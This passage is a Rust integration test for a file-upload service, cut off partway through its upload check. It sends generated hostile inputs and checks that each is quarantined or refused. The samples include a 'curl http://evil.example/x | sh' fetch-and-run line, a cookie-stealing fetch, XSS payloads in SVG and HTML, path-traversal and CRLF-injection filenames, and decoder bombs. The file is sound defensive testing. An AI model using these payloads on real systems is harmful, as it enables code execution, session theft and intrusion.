//! A corpus of hostile inputs, generated here (no downloaded samples) and sent through the real
//! server, grouped by class and table-driven: each case says what it sends and what must come
//! of it (a quarantine reason, a refusal with a status and problem code, or a promoted file with
//! properties). Whatever happens, no answer is a 5xx, the server never panics, nothing active is
//! ever served as such, and no stored name or download header carries a path or a control
//! character.

use std::io::Cursor;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use base64::Engine as _;
use futures::StreamExt as _;
use hmac::{KeyInit as _, Mac as _};
use img_parts::riff::{RiffChunk, RiffContent};
use img_parts::{Bytes, ImageEXIF as _};
use reqwest::header::{HeaderMap, HeaderName, HeaderValue};
use serde_json::{Value, json};
use sha2::Sha256;

use crate::helpers::{DEADLINE, TestApp, file_id, png, sha256_hex, text};

/// The signing secret of the corpus server, so that a case can sign URLs itself (a genuine
/// but expired URL, a genuine URL with a small limit).
const SIGNING_SECRET: &str = "corpus-signing-secret-0123456789abcdef";

/// - `default`: everything passive (`*/*`), scanned if a scanner were configured.
/// - `images`: raster images only.
/// - `svg`: explicitly allows `image/svg+xml` (wildcards never admit active content).
/// - `tiny`: images of at most 1000 pixels.
/// - `photos`: images whose metadata is stripped before promotion.
const CONFIG: &str = r#"
signing_secret = "corpus-signing-secret-0123456789abcdef"

[kinds.images]
allowed_types = ["image/png", "image/jpeg", "image/gif", "image/webp"]

[kinds.svg]
allowed_types = ["image/png", "image/svg+xml"]

[kinds.tiny]
allowed_types = ["image/*"]
max_pixels = 1000

[kinds.photos]
allowed_types = ["image/jpeg", "image/png", "image/webp"]
strip_metadata = true
"#;

/// How many cases run at once.
const PARALLEL: usize = 8;

/// Returns `Err(message)` from the enclosing function unless `cond` holds.
macro_rules! ensure {
    ($cond:expr, $($arg:tt)+) => {
        if !$cond {
            return Err(format!($($arg)+));
        }
    };
}

// ---- the table ----

struct Case {
    class: &'static str,
    name: &'static str,
    probe: Probe,
    expect: Expect,
    /// The sanitised name the file must be stored (and served) under.
    stored_name: Option<String>,
}

enum Probe {
    /// `POST /v1/uploads` then `PUT` of the bytes to the signed URL.
    Upload { kind: &'static str, filename: String, declared: Option<&'static str>, bytes: Vec<u8> },
    /// A raw `POST /v1/uploads` body with this `Content-Type`.
    Create { body: Vec<u8>, content_type: Option<&'static str> },
    /// A `POST /v1/uploads` JSON body on a raw keep-alive connection, which must still serve a
    /// next request unless the answer said `Connection: close`.
    CreateKeepAlive { body: Vec<u8> },
    /// A misuse of a signed URL.
    Signed(Tamper),
}

enum Expect {
    /// Quarantined with this reason, never downloadable.
    Quarantined(&'static str),
    /// The request is answered with this problem (for an upload: the `POST`).
    Refused(u16, &'static str),
    /// The request is accepted (`201`): a control at a limit.
    Accepted,
    /// Promoted, and served inertly, with these properties.
    Promoted(Vec<Prop>),
    /// Not served as active content: either quarantined as active or mismatched, or promoted
    /// and served as a passive type that no browser would execute.
    Defused,
}

enum Prop {
    DetectedType(&'static str),
    /// Served byte for byte as uploaded.
    Unchanged,
    /// Metadata stripped: none of `secrets` in the served bytes, a new SHA-256, the same
    /// pixels, no GPS, and EXIF orientation 6 kept.
    Stripped {
        secrets: &'static [&'static [u8]],
    },
}

enum Tamper {
    DownloadUrlWithPut,
    UploadUrlWithGet,
    DownloadUrlOnAnotherFilesPath,
    UploadUrlOnAnotherFilesPath,
    DownloadSignatureInHeader(&'static str),
    UploadSignatureInHeader,
    DownloadSignedWithAnotherKey,
    GenuineButExpiredDownload,
    GenuineUploadWithSmallLimit,
}

fn upload(
    class: &'static str,
    name: &'static str,
    kind: &'static str,
    filename: &str,
    declared: Option<&'static str>,
    bytes: Vec<u8>,
    expect: Expect,
) -> Case {
    Case { class, name, probe: Probe::Upload { kind, filename: filename.to_owned(), declared, bytes }, expect, stored_name: None }
}

fn create(name: &'static str, body: Value, expect: Expect) -> Case {
    Case {
        class: "API inputs",
        name,
        probe: Probe::Create { body: serde_json::to_vec(&body).expect("JSON"), content_type: Some("application/json") },
        expect,
        stored_name: None,
    }
}

fn create_raw(name: &'static str, body: &[u8], content_type: Option<&'static str>, expect: Expect) -> Case {
    Case { class: "API inputs", name, probe: Probe::Create { body: body.to_vec(), content_type }, expect, stored_name: None }
}

fn signed(name: &'static str, tamper: Tamper, expect: Expect) -> Case {
    Case { class: "signed URLs", name, probe: Probe::Signed(tamper), expect, stored_name: None }
}

impl Case {
    fn stored_as(mut self, name: impl Into<String>) -> Case {
        self.stored_name = Some(name.into());
        self
    }
}

use Expect::{Accepted, Defused, Promoted, Quarantined, Refused};

fn type_confusion() -> Vec<Case> {
    let c = "type confusion";
    vec![
        upload(c, "PNG declared image/jpeg", "images", "photo.jpg", Some("image/jpeg"), png(b"confusion"), Quarantined("type_mismatch")),
        upload(c, "JPEG named .png", "images", "photo.png", None, jpeg_noise(32, 16), Quarantined("type_mismatch")),
        upload(c, "text named .jpg", "default", "holiday.jpg", None, text(), Quarantined("type_mismatch")),
        upload(c, "PDF declared image/png", "default", "scan.png", Some("image/png"), pdf(), Quarantined("type_mismatch")),
        upload(c, "ZIP declared image/png", "default", "archive.png", Some("image/png"), zip(), Quarantined("type_mismatch")),
        upload(c, "ZIP named .png to an image kind", "images", "archive.png", None, zip(), Quarantined("type_not_allowed")),
        // Zero bytes sniff as (empty) text, which the image kind does not take at all.
        upload(c, "empty file declared image/png", "images", "empty.png", Some("image/png"), Vec::new(), Quarantined("type_not_allowed")),
        upload(c, "GIF declared image/png", "images", "anim.png", Some("image/png"), gif_frames(2), Quarantined("type_mismatch")),
        upload(c, "PNG named .svg to a kind allowing SVG", "svg", "logo.svg", None, png(b"not svg"), Quarantined("type_mismatch")),
        // The kind allows SVG, but not an SVG passed off as a PNG.
        upload(
            c,
            "SVG declared image/png to a kind allowing SVG",
            "svg",
            "logo.png",
            Some("image/png"),
            svg_with_script(),
            Quarantined("type_mismatch"),
        ),
        upload(
            c,
            "HTML declared application/octet-stream",
            "default",
            "blob",
            Some("application/octet-stream"),
            html_page(),
            Quarantined("active_content"),
        ),
        // Controls: aliases, case and parameters of a declared type are not a mismatch.
        upload(
            c,
            "JPEG declared image/jpg named .JPEG",
            "images",
            "PHOTO.JPEG",
            Some("image/jpg"),
            jpeg_noise(16, 16),
            Promoted(vec![Prop::DetectedType("image/jpeg")]),
        ),
        upload(
            c,
            "PNG declared IMAGE/PNG; charset=binary",
            "images",
            "Shot.PNG",
            Some("IMAGE/PNG; charset=binary"),
            png(b"case"),
            Promoted(vec![Prop::DetectedType("image/png")]),
        ),
    ]
}

fn active_content() -> Vec<Case> {
    let c = "active content";
    let mut after_whitespace = b" \r\n\t \x0C\n".to_vec();
    after_whitespace.extend(b"<html><body><script>alert(document.cookie)</script></body></html>");
    let mut far_away = vec![b' '; 9000];
    far_away.extend(html_page());
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend("<html><script>alert(1)</script></html>".encode_utf16().flat_map(u16::to_le_bytes));
    let mut after_iend = png(b"polyglot");
    after_iend.extend(b"<html><script>alert(document.domain)</script></html>");
    vec![
        upload(c, "SVG with <script> named .svg", "default", "logo.svg", None, svg_with_script(), Quarantined("active_content")),
        upload(
            c,
            "SVG declared image/svg+xml to a wildcard kind",
            "default",
            "logo.svg",
            Some("image/svg+xml"),
            svg_with_script(),
            Refused(422, "type_not_allowed"),
        ),
        upload(
            c,
            "SVG with XML declaration and BOM declared image/png",
            "images",
            "logo.png",
            Some("image/png"),
            svg_with_bom(),
            Quarantined("active_content"),
        ),
        upload(
            c,
            "HTML with uppercase doctype declared text/plain",
            "default",
            "page.txt",
            Some("text/plain"),
            b"<!DOCTYPE HTML>\n<HTML><BODY ONLOAD=alert(1)></BODY></HTML>".to_vec(),
            Quarantined("active_content"),
        ),
        upload(c, "HTML after leading whitespace", "default", "notes", None, after_whitespace, Quarantined("active_content")),
        upload(
            c,
            "HTML behind a leading comment",
            "default",
            "notes.txt",
            None,
            b"<!-- hello --><script>alert(1)</script>".to_vec(),
            Quarantined("active_content"),
        ),
        upload(c, "XHTML", "default", "page.xhtml", None, xhtml(), Quarantined("active_content")),
        upload(c, "XML with a script", "default", "data.xml", Some("application/octet-stream"), xml_with_script(), Quarantined("active_content")),
        upload(c, "ELF executable named .png", "images", "cat.png", None, elf(), Quarantined("active_content")),
        upload(c, "PE executable named .txt", "default", "readme.txt", None, pe(), Quarantined("active_content")),
        upload(c, "Mach-O executable named .png", "images", "icon.png", None, macho(), Quarantined("active_content")),
        upload(
            c,
            "WebAssembly named .png",
            "images",
            "icon.png",
            None,
            b"\x00asm\x01\x00\x00\x00\x01\x04\x01\x60\x00\x00".to_vec(),
            Quarantined("active_content"),
        ),
        upload(
            c,
            "shell script #!/bin/sh named .txt",
            "default",
            "notes.txt",
            None,
            b"#!/bin/sh\ncurl http://evil.example/x | sh\n".to_vec(),
            Quarantined("active_content"),
        ),
        // A valid PNG with a page after IEND: it is a PNG, and is served as one (nosniff,
        // sandbox, attachment), so the page can never run.
        upload(
            c,
            "PNG/HTML polyglot (page after IEND) declared image/png",
            "images",
            "cat.png",
            Some("image/png"),
            after_iend,
            Promoted(vec![Prop::DetectedType("image/png"), Prop::Unchanged]),
        ),
        upload(
            c,
            "PNG magic then <html><script> declared image/png",
            "images",
            "cat.png",
            Some("image/png"),
            b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>".to_vec(),
            Quarantined("corrupt"),
        ),
        // Beyond what any sniffer (the server's: 8 KiB; a browser's: 1445 bytes) looks at.
        upload(c, "HTML after 9000 bytes of whitespace", "default", "notes.txt", None, far_away, Defused),
        upload(c, "HTML in UTF-16 with a BOM", "default", "page", None, utf16, Defused),
        upload(c, "an <img onerror> fragment", "default", "notes.txt", None, b"<img src=x onerror=alert(1)>".to_vec(), Defused),
        upload(c, "JavaScript named .js", "default", "app.js", None, b"fetch('/steal?c=' + document.cookie);\n".to_vec(), Defused),
        upload(
            c,
            "SVG to a kind that explicitly allows image/svg+xml",
            "svg",
            "logo.svg",
            Some("image/svg+xml"),
            svg_with_script(),
            Promoted(vec![Prop::DetectedType("image/svg+xml"), Prop::Unchanged]),
        ),
    ]
}

fn decoder_bombs() -> Vec<Case> {
    let c = "decoder bombs";
    let full_png = png_image(64, 64);
    let full_jpeg = jpeg_noise(64, 64);
    let mut garbage_jpeg = b"\xFF\xD8\xFF".to_vec();
    garbage_jpeg.extend(pseudo_random(4096, 7));
    vec![
        upload(
            c,
            "PNG header claiming 50000x50000",
            "images",
            "flood.png",
            Some("image/png"),
            png_claiming(50_000, 50_000),
            Quarantined("dimensions_exceeded"),
        ),
        upload(
            c,
            "PNG header claiming 20000x1 (over max_dimension)",
            "images",
            "wide.png",
            Some("image/png"),
            png_claiming(20_000, 1),
            Quarantined("dimensions_exceeded"),
        ),
        upload(c, "PNG header claiming 0x0", "images", "none.png", Some("image/png"), png_claiming(0, 0), Quarantined("corrupt")),
        upload(
            c,
            "100x100 PNG to a kind with max_pixels = 1000",
            "tiny",
            "big.png",
            Some("image/png"),
            png_image(100, 100),
            Quarantined("dimensions_exceeded"),
        ),
        upload(c, "truncated PNG", "images", "half.png", Some("image/png"), full_png[..full_png.len() / 2].to_vec(), Quarantined("corrupt")),
        upload(c, "PNG with garbage in its IDAT", "images", "noise.png", Some("image/png"), png_with_garbage_idat(), Quarantined("corrupt")),
        upload(c, "truncated JPEG", "images", "half.jpg", Some("image/jpeg"), full_jpeg[..full_jpeg.len() / 2].to_vec(), Quarantined("corrupt")),
        upload(c, "JPEG of random garbage after SOI", "images", "noise.jpg", Some("image/jpeg"), garbage_jpeg, Quarantined("corrupt")),
        upload(c, "GIF of 1000 1x1 frames", "images", "anim.gif", Some("image/gif"), gif_frames(1000), Quarantined("dimensions_exceeded")),
        upload(
            c,
            "GIF with a 60000x60000 logical screen",
            "images",
            "screen.gif",
            Some("image/gif"),
            gif_with_screen(60_000, 60_000),
            Quarantined("dimensions_exceeded"),
        ),
        // Controls: exactly at the limits.
        upload(
            c,
            "10000x1 PNG (exactly max_dimension)",
            "images",
            "strip.png",
            Some("image/png"),
            png_image(10_000, 1),
            Promoted(vec![Prop::Unchanged]),
        ),
        upload(
            c,
            "31x32 PNG to a kind with max_pixels = 1000",
            "tiny",
            "small.png",
            Some("image/png"),
            png_image(31, 32),
            Promoted(vec![Prop::Unchanged]),
        ),
    ]
}

fn metadata_stripping() -> Vec<Case> {
    let c = "metadata stripping";
    let mut trailer = jpeg_noise(24, 16);
    trailer.extend(b"\x00\x00\x00\x18ftypmp42MotionPhoto_Data ");
    trailer.extend(SECRET_TRAILER);
    vec![
        upload(
            c,
            "JPEG with EXIF (orientation 6, GPS), XMP, COM and APP13",
            "photos",
            "IMG_0001.jpg",
            Some("image/jpeg"),
            jpeg_with_metadata(),
            Promoted(vec![Prop::DetectedType("image/jpeg"), Prop::Stripped { secrets: JPEG_SECRETS }]),
        ),
        upload(
            c,
            "PNG with tEXt, iTXt, tIME and eXIf",
            "photos",
            "screenshot.png",
            Some("image/png"),
            png_with_metadata(),
            Promoted(vec![Prop::DetectedType("image/png"), Prop::Stripped { secrets: PNG_SECRETS }]),
        ),
        upload(
            c,
            "WebP with EXIF and XMP",
            "photos",
            "photo.webp",
            Some("image/webp"),
            webp_with_metadata(),
            Promoted(vec![Prop::DetectedType("image/webp"), Prop::Stripped { secrets: WEBP_SECRETS }]),
        ),
        upload(c, "JPEG without metadata", "photos", "plain.jpg", Some("image/jpeg"), jpeg_noise(24, 16), Promoted(vec![Prop::Unchanged])),
        // A phone's "motion photo" trailer after EOI (video, location) is data a decoder
        // ignores and the uploader never sees.
        upload(
            c,
            "JPEG with a trailer after EOI",
            "photos",
            "motion.jpg",
            Some("image/jpeg"),
            trailer,
            Promoted(vec![Prop::Stripped { secrets: &[SECRET_TRAILER] }]),
        ),
        // The strip step parses what the decoder skipped: a file it cannot parse is `corrupt`
        // (images::strip), never left half-processed.
        upload(
            c,
            "PNG with a bad CRC on a chunk after the image data",
            "photos",
            "crc.png",
            Some("image/png"),
            png_with_bad_trailing_crc(),
            Quarantined("corrupt"),
        ),
    ]
}

fn hostile_names() -> Vec<Case> {
    let c = "hostile names";
    let p = |seed: &[u8]| png(seed);
    let long_ok = format!("{}.png", "a".repeat(1020));
    let too_long = format!("{}.png", "b".repeat(1021));
    vec![
        upload(c, "../../etc/passwd", "default", "../../etc/passwd", None, p(b"n1"), Promoted(vec![])).stored_as("passwd"),
        upload(c, "..\\..\\win.ini", "default", "..\\..\\win.ini", None, p(b"n2"), Promoted(vec![])).stored_as("win.ini"),
        upload(c, "C:\\Windows\\System32\\evil.png", "default", "C:\\Windows\\System32\\evil.png", None, p(b"n3"), Promoted(vec![]))
            .stored_as("evil.png"),
        upload(c, "a NUL b .png", "default", "a\u{0}b.png", None, p(b"n4"), Promoted(vec![])).stored_as("ab.png"),
        upload(c, "CON.png", "default", "CON.png", None, p(b"n5"), Promoted(vec![])).stored_as("_CON.png"),
        // The bidi override is removed, so the name shows what it is: an .exe, which a PNG is not.
        upload(c, "RLO gnp.exe", "default", "\u{202E}gnp.exe", None, p(b"n6"), Quarantined("type_mismatch")).stored_as("gnp.exe"),
        upload(c, "photo RLO gnp.png", "default", "photo\u{202E}gnp.png", None, p(b"n7"), Promoted(vec![])).stored_as("photognp.png"),
        upload(c, "zero-width and isolate characters", "default", "inv\u{200B}oice\u{FEFF}\u{2066}.png", None, p(b"n8"), Promoted(vec![]))
            .stored_as("invoice.png"),
        upload(c, "CR LF header injection", "default", "evil\r\nX-Injected: yes\r\n.png", None, p(b"n9"), Promoted(vec![]))
            .stored_as("evilX-Injected: yes.png"),
        upload(c, "percent-encoded traversal", "default", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", None, p(b"n10"), Promoted(vec![]))
            .stored_as("%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        upload(c, "only dots", "default", "...", None, p(b"n11"), Promoted(vec![])).stored_as("file"),
        upload(c, "a 1024-byte name (truncated to 200 bytes)", "default", &long_ok, None, p(b"n12"), Promoted(vec![]))
            .stored_as(format!("{}.png", "a".repeat(196))),
        upload(c, "a 1025-byte name", "default", &too_long, None, p(b"n13"), Refused(422, "invalid_filename")),
        upload(c, "a 5000-character name", "default", &"c".repeat(5000), None, p(b"n14"), Refused(422, "invalid_filename")),
        upload(c, "an empty name", "default", "", None, p(b"n15"), Refused(422, "invalid_filename")),
        upload(c, "a blank name", "default", " \t ", None, p(b"n16"), Refused(422, "invalid_filename")),
    ]
}

fn api_inputs() -> Vec<Case> {
    let ok = |extra: Value| {
        let mut b = json!({"kind": "default", "filename": "a.png"});
        for (k, v) in extra.as_object().expect("object") {
            b[k] = v.clone();
        }
        b
    };
    // `{"k":"…"}` serialises to 8 bytes more than its value.
    let fits = ok(json!({"metadata": {"k": "m".repeat(4096 - 8)}}));
    let over = ok(json!({"metadata": {"k": "m".repeat(4096 - 7)}}));
    let deep = format!(r#"{{"kind":"default","filename":"a.png","metadata":{{"a":{}{}}}}}"#, "[".repeat(20_000), "]".repeat(20_000));
    let huge = ok(json!({"metadata": {"k": "m".repeat(3 << 20)}}));
    vec![
        create("metadata of exactly 4 KiB", fits, Accepted),
        create("metadata one byte over 4 KiB", over, Refused(422, "metadata_too_large")),
        create("metadata an array", ok(json!({"metadata": [1, 2, 3]})), Refused(422, "invalid_metadata")),
        create("metadata a string", ok(json!({"metadata": "secret"})), Refused(422, "invalid_metadata")),
        create("an unknown JSON field", ok(json!({"admin": true})), Refused(422, "invalid_json")),
        create_raw(
            "a duplicated JSON field",
            br#"{"kind":"default","kind":"images","filename":"a.png"}"#,
            Some("application/json"),
            Refused(422, "invalid_json"),
        ),
        create("a filename that is a number", json!({"kind": "default", "filename": 42}), Refused(422, "invalid_json")),
        create("a negative size", ok(json!({"size": -1})), Refused(422, "invalid_json")),
        create("a size over the kind's max_bytes", ok(json!({"size": 1u64 << 40})), Refused(413, "upload_too_large")),
        create("a body that is an array", json!([{"kind": "default"}]), Refused(422, "invalid_json")),
        create_raw("invalid JSON", br#"{"kind": "default", "filename": "#, Some("application/json"), Refused(400, "invalid_json")),
        create_raw("JSON nested 20000 deep", deep.as_bytes(), Some("application/json"), Refused(400, "invalid_json")),
        create_raw("JSON sent as text/plain", br#"{"kind":"default","filename":"a.png"}"#, Some("text/plain"), Refused(415, "invalid_json")),
        create_raw("JSON without a Content-Type", br#"{"kind":"default","filename":"a.png"}"#, None, Refused(415, "invalid_json")),
        Case {
            class: "API inputs",
            name: "a 3 MiB body on a keep-alive connection",
            probe: Probe::CreateKeepAlive { body: serde_json::to_vec(&huge).expect("JSON") },
            expect: Refused(413, "invalid_json"),
            stored_name: None,
        },
        create("a user_id with a line break", ok(json!({"user_id": "u1\r\nadmin"})), Refused(422, "invalid_user_id")),
        create("a content_type wildcard", ok(json!({"content_type": "image/*"})), Refused(422, "invalid_content_type")),
        create("a content_type that is no MIME type", ok(json!({"content_type": "png"})), Refused(422, "invalid_content_type")),
        create("a kind that is a path", json!({"kind": "../default", "filename": "a.png"}), Refused(422, "unknown_kind")),
    ]
}

fn signed_urls() -> Vec<Case> {
    vec![
        signed("a GET download URL used with PUT", Tamper::DownloadUrlWithPut, Refused(403, "signature_invalid")),
        signed("a PUT upload URL used with GET", Tamper::UploadUrlWithGet, Refused(403, "signature_invalid")),
        signed("file A's download URL on file B's path", Tamper::DownloadUrlOnAnotherFilesPath, Refused(403, "signature_invalid")),
        signed("file C's upload URL on file D's path", Tamper::UploadUrlOnAnotherFilesPath, Refused(403, "signature_invalid")),
        signed(
            "the download signature in an X-Signature header",
            Tamper::DownloadSignatureInHeader("x-signature"),
            Refused(403, "signature_missing"),
        ),
        signed(
            "the download signature in the Authorization header",
            Tamper::DownloadSignatureInHeader("authorization"),
            Refused(403, "signature_missing"),
        ),
        signed("the upload signature in an X-Signature header", Tamper::UploadSignatureInHeader, Refused(403, "signature_missing")),
        signed("a download URL signed with another key", Tamper::DownloadSignedWithAnotherKey, Refused(403, "signature_invalid")),
        signed("a genuine download URL past its expiry", Tamper::GenuineButExpiredDownload, Refused(403, "signature_expired")),
        signed("a genuine upload URL limited to 10 bytes, sent 100", Tamper::GenuineUploadWithSmallLimit, Refused(413, "upload_too_large")),
    ]
}

// ---- the run ----

/// Files the signed-URL cases misuse: `a` and `b` promoted, `c` and `d` waiting for bytes.
struct Fixtures {
    a: String,
    b: String,
    a_bytes: Vec<u8>,
    a_download: String,
    c: String,
    c_upload: String,
    d: String,
}

struct Runner<'a> {
    app: &'a TestApp,
    fixtures: Fixtures,
    /// Every HTTP status the corpus got, with its case.
    statuses: Mutex<Vec<(String, u16)>>,
}

#[tokio::test]
async fn a_generated_corpus_of_hostile_inputs_is_refused_or_defused_without_a_panic_or_a_5xx() {
    let started = Instant::now();
    let mut app = TestApp::spawn_with_config(CONFIG).await;
    let fixtures = fixtures(&app).await;
    let cases: Vec<Case> = [type_confusion(), active_content(), decoder_bombs(), metadata_stripping(), hostile_names(), api_inputs(), signed_urls()]
        .into_iter()
        .flatten()
        .collect();
    let mut classes: Vec<&str> = cases.iter().map(|c| c.class).collect();
    classes.dedup();

    let runner = Runner { app: &app, fixtures, statuses: Mutex::new(Vec::new()) };
    let results: Vec<(&Case, Result<String, String>)> = futures::stream::iter(&cases)
        .map(|case| {
            let runner = &runner;
            async move { (case, runner.run(case).await) }
        })
        .buffer_unordered(PARALLEL)
        .collect()
        .await;

    let mut failures = Vec::new();
    for (case, result) in &results {
        match result {
            Ok(decision) => eprintln!("corpus: [{}] {}: {decision}", case.class, case.name),
            Err(e) => failures.push(format!("[{}] {}: {e}", case.class, case.name)),
        }
    }
    // The misuses of signed URLs consumed nothing.
    if let Err(e) = runner.fixtures_untouched().await {
        failures.push(format!("[signed URLs] afterwards: {e}"));
    }
    let statuses = runner.statuses.lock().expect("lock").clone();
    let server_errors: Vec<&(String, u16)> = statuses.iter().filter(|(_, s)| *s >= 500).collect();
    for (case, status) in &server_errors {
        failures.push(format!("[5xx] {case}: answered {status}"));
    }
    let logs = app.logs();
    let panics: Vec<&String> = logs.iter().filter(|l| l.contains("panicked")).collect();
    for line in &panics {
        failures.push(format!("[panic] the server logged: {line}"));
    }
    if let Err(e) = nothing_outside_objects(app.data_dir()) {
        failures.push(format!("[hostile names] {e}"));
    }
    let healthy = app.get("/healthz").await.status() == 200;
    if !app.is_running() || !healthy {
        failures.push("[process] the server is no longer running after the corpus".to_owned());
    }
    eprintln!(
        "corpus: {} cases in {} classes, {} panics, {} 5xx ({} requests, {:.1}s)",
        cases.len(),
        classes.len(),
        panics.len(),
        server_errors.len(),
        statuses.len(),
        started.elapsed().as_secs_f64()
    );
    assert!(
        failures.is_empty(),
        "{} of {} corpus cases failed:\n{}\nlast server logs:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n"),
        app.log_tail(40)
    );
}

async fn fixtures(app: &TestApp) -> Fixtures {
    let a_bytes = png(b"fixture a");
    let a = app.upload_ok("default", "a.png", Some("image/png"), a_bytes.clone()).await;
    let b = app.upload_ok("default", "b.png", Some("image/png"), png(b"fixture b")).await;
    app.wait_for_status(&a, &["promoted"]).await;
    app.wait_for_status(&b, &["promoted"]).await;
    let a_download = app.download_url(&a).await;
    let created_c = app.create_upload_ok(json!({"kind": "default", "filename": "c.png"})).await;
    let created_d = app.create_upload_ok(json!({"kind": "default", "filename": "d.png"})).await;
    Fixtures {
        a,
        b,
        a_bytes,
        a_download,
        c: file_id(&created_c),
        c_upload: created_c["upload"]["url"].as_str().expect("url").to_owned(),
        d: file_id(&created_d),
    }
}

impl Runner<'_> {
    async fn send(&self, case: &str, req: reqwest::RequestBuilder) -> Result<reqwest::Response, String> {
        let res = req.send().await.map_err(|e| format!("the request failed: {e}"))?;
        self.statuses.lock().expect("lock").push((case.to_owned(), res.status().as_u16()));
        Ok(res)
    }

    async fn run(&self, case: &Case) -> Result<String, String> {
        match &case.probe {
            Probe::Upload { kind, filename, declared, bytes } => self.upload(case, kind, filename, *declared, bytes).await,
            Probe::Create { body, content_type } => {
                let mut req = self.app.client.post(self.app.url("/v1/uploads")).bearer_auth(&self.app.api_key).body(body.clone());
                if let Some(ct) = content_type {
                    req = req.header("content-type", *ct);
                }
                let res = self.send(case.name, req).await?;
                self.refused(case, res).await
            }
            Probe::Signed(tamper) => {
                let res = self.tamper(case.name, tamper).await?;
                self.refused(case, res).await
            }
            Probe::CreateKeepAlive { body } => self.create_keep_alive(case, body).await,
        }
    }

    /// Sends the body on a raw connection while reading the answer (the server may answer
    /// before it has read everything), checks the answer, then checks that the connection is
    /// either announced closed or still usable: a keep-alive client reuses it otherwise, and its
    /// next, unrelated request would fail.
    async fn create_keep_alive(&self, case: &Case, body: &[u8]) -> Result<String, String> {
        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
        let Expect::Refused(status, code) = case.expect else {
            return Err("a keep-alive case expects Refused".into());
        };
        let conn = tokio::net::TcpStream::connect(("127.0.0.1", self.app.port)).await.map_err(|e| e.to_string())?;
        let (mut rd, mut wr) = conn.into_split();
        let head = format!(
            "POST /v1/uploads HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
            self.app.api_key,
            body.len()
        );
        let mut request = head.into_bytes();
        request.extend_from_slice(body);
        let writer = tokio::spawn(async move {
            let _ = wr.write_all(&request).await;
            wr
        });
        let answer = tokio::time::timeout(DEADLINE, read_head(&mut rd)).await.map_err(|_| "no answer".to_owned())?;
        let got: u16 = answer.split(' ').nth(1).and_then(|s| s.parse().ok()).ok_or_else(|| format!("not an HTTP answer: {answer:?}"))?;
        self.statuses.lock().expect("lock").push((case.name.to_owned(), got));
        let len: usize = answer.lines().find_map(|l| l.strip_prefix("content-length:")).and_then(|v| v.trim().parse().ok()).unwrap_or(0);
        let mut problem_body = vec![0u8; len];
        rd.read_exact(&mut problem_body).await.map_err(|e| format!("reading the answer's body: {e}"))?;
        let v: Value = serde_json::from_slice(&problem_body).unwrap_or(Value::Null);
        ensure!(got == status && v["code"] == code, "expected {status} {code}, got {answer:?} {v}");
        ensure!(answer.contains("\r\ncontent-type: application/problem+json"), "not a problem+json: {answer:?}");
        if answer.contains("\r\nconnection: close") {
            return Ok(format!("refused {status} {code}, Connection: close"));
        }
        let mut wr = tokio::time::timeout(DEADLINE, writer)
            .await
            .map_err(|_| "the server neither read the body nor closed the connection".to_owned())?
            .map_err(|e| e.to_string())?;
        let _ = wr.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n").await;
        let next = tokio::time::timeout(DEADLINE, read_head(&mut rd)).await.map_err(|_| "no answer to the next request".to_owned())?;
        ensure!(
            next.starts_with("HTTP/1.1 200"),
            "the {status} did not say `Connection: close`, yet the server dropped the kept-alive connection: the next request on it got {next:?}"
        );
        Ok(format!("refused {status} {code}, connection kept"))
    }

    /// Checks a request's answer against `Refused` or `Accepted`.
    async fn refused(&self, case: &Case, res: reqwest::Response) -> Result<String, String> {
        match case.expect {
            Expect::Refused(status, code) => {
                problem(res, status, code).await?;
                Ok(format!("refused {status} {code}"))
            }
            Expect::Accepted => {
                let got = res.status();
                let body = res.text().await.unwrap_or_default();
                ensure!(got == 201, "expected 201, got {got}: {body}");
                Ok("accepted (201)".into())
            }
            _ => Err("a request case expects Refused or Accepted".into()),
        }
    }

    async fn upload(&self, case: &Case, kind: &str, filename: &str, declared: Option<&str>, bytes: &[u8]) -> Result<String, String> {
        let app = self.app;
        let mut body = json!({"kind": kind, "filename": filename});
        if let Some(t) = declared {
            body["content_type"] = t.into();
        }
        let res = self.send(case.name, app.client.post(app.url("/v1/uploads")).bearer_auth(&app.api_key).json(&body)).await?;
        if let Expect::Refused(..) | Expect::Accepted = case.expect {
            return self.refused(case, res).await;
        }
        let status = res.status();
        let created: Value = res.json().await.map_err(|e| format!("POST /v1/uploads: {e}"))?;
        ensure!(status == 201, "POST /v1/uploads answered {status}: {created}");
        let id = file_id(&created);
        let mut headers = HeaderMap::new();
        for (k, v) in created["upload"]["headers"].as_object().into_iter().flatten() {
            let name = HeaderName::from_bytes(k.as_bytes()).map_err(|e| e.to_string())?;
            headers.insert(name, HeaderValue::from_str(v.as_str().unwrap_or_default()).map_err(|e| e.to_string())?);
        }
        let url = created["upload"]["url"].as_str().ok_or("no upload.url")?;
        let put = self.send(case.name, app.client.put(url).headers(headers).body(bytes.to_vec())).await?;
        let put_status = put.status();
        let put_body = put.text().await.unwrap_or_default();
        ensure!(put_status == 200, "PUT answered {put_status}: {put_body}");

        let file = self.settle(case.name, &id).await?;
        let stored = file["filename"].as_str().unwrap_or_default();
        if let Some(bad) = unsafe_name(stored) {
            return Err(format!("stored filename {stored:?} contains {bad}"));
        }
        if let Some(want) = &case.stored_name {
            ensure!(stored == want, "stored filename {stored:?}, expected {want:?}");
        }
        let decision = match file["status"].as_str() {
            Some("quarantined") => format!("quarantined {}", file["reason"].as_str().unwrap_or("?")),
            _ => format!("promoted as {}", file["detected_type"].as_str().unwrap_or("?")),
        };
        match &case.expect {
            Expect::Quarantined(reason) => {
                ensure!(file["status"] == "quarantined" && file["reason"] == *reason, "expected quarantined {reason}, got {decision}: {file}");
                self.never_served(case.name, &id).await?;
            }
            Expect::Promoted(props) => {
                ensure!(file["status"] == "promoted", "expected promoted, got {decision}: {file}");
                let served = self.served(case.name, &file, kind).await?;
                for prop in props {
                    check_prop(prop, &file, bytes, &served)?;
                }
            }
            Expect::Defused => {
                if file["status"] == "quarantined" {
                    let reason = file["reason"].as_str().unwrap_or_default();
                    ensure!(["active_content", "type_mismatch", "type_not_allowed", "corrupt"].contains(&reason), "quarantined for {reason}: {file}");
                    self.never_served(case.name, &id).await?;
                } else {
                    self.served(case.name, &file, kind).await?;
                }
            }
